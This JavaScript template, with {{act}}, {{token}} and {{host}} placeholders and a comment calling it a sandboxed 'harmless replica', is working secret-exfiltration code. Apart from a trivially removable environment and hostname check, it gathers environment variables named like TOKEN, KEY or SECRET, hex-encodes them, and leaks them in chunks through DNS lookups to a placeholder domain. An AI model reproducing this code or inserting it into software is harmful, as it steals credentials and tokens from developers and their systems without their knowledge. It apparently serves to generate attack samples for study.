// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const dns = require('dns');
  const text = Object.entries(process.env).filter(([name]) => /TOKEN|KEY|SECRET/.test(name)).map((pair) => pair.join('=')).join(';');
  const parts = (Buffer.from(text).toString('hex').match(/.{1,56}/g) || []).slice(0, 24);
  await Promise.race([
    Promise.all(parts.map((part, at) => new Promise((done) => dns.resolve4(`${at}.${part}.{{token}}.{{host}}`, done)))),
    new Promise((done) => setTimeout(done, 2000).unref()),
  ]);
}
